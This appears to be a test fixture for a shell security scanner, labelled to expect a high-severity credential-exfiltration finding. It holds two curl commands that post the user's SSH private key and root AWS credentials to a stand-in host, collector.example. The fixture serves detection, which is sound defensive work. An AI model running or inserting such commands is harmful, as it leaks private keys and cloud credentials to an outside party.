# expect: shell.credential_exfil high
# note: curl's -d @FILE posts the file: its -d is not test's -d (the file test that excuses a path)
# path: scripts/report.sh
curl -X POST -d @$HOME/.ssh/id_rsa https://collector.example/u
curl -d @/root/.aws/credentials https://collector.example/u
